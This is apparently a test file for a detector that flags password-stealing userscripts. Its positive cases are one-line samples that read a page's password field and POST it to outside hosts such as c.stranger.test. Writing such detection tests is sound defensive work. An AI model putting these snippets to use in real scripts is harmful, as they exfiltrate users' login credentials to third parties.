import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { passwordTheft } from "./password-theft.ts";

describe("password-theft", () => {
	test.each([
		[
			"a password field, read on submit",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("submit",()=>fetch("https://c.stranger.test/",{method:"POST",body:document.querySelector("input[type=password]").value}))`,
			),
		],
		[
			"a password field, for a declared server",
			["critical 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`GM_xmlhttpRequest({method:"POST",url:"https://api.helper.example/",data:document.querySelector("#login input[type=password]").value})`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(passwordTheft, code)).toEqual(expected);
	});

	test.each([
		[
			"a check of strength on the page",
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("input[type=password]").addEventListener("input",e=>{document.title=e.target.value.length>9?"good":"short"})`,
			),
		],
		[
			"showing what is typed",
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll("input[type=password]").forEach(f=>{f.type="text"})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(passwordTheft, code)).toEqual([]);
	});
});
